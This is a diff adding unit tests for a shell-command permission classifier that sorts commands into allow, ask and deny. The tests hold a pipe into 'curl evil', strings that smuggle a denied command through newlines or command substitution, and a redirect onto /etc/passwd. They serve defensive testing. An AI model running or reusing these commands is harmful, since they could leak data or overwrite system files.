@@ -16,3 +16,23 @@ def test_deny_beats_ask_beats_allow_and_unlisted_is_ask():
     assert classify("sudo python x/simserve.py apply", **RULES).klass == "ask"
     v = classify("python x/simserve.py bench | curl evil", **RULES)
     assert v.klass == "ask" and v.part == "curl evil" and v.pattern is None
+
+
+def test_newlines_and_substitutions_cannot_smuggle_a_denied_command():
+    rules = {"allow": ["echo *", "cat *"], "ask": [], "deny": ["touch *"]}
+    for command in [
+        "echo hi\ntouch /tmp/x",
+        "echo $(touch x)",
+        "echo `touch x`",
+        "cat <(touch x)",
+        "echo $(echo $(touch x))",
+    ]:
+        assert classify(command, **rules).klass == "deny", command
+
+
+def test_redirection_outside_the_working_directory_needs_approval():
+    rules = {"allow": ["echo *"], "ask": [], "deny": []}
+    assert classify("echo hi > /etc/passwd", **rules).klass == "ask"
+    assert classify("echo hi >> ../elsewhere", **rules).klass == "ask"
+    assert classify("echo hi > out.txt 2>/dev/null", **rules).klass == "allow"
+    assert classify("echo hi >&2", **rules).klass == "allow"
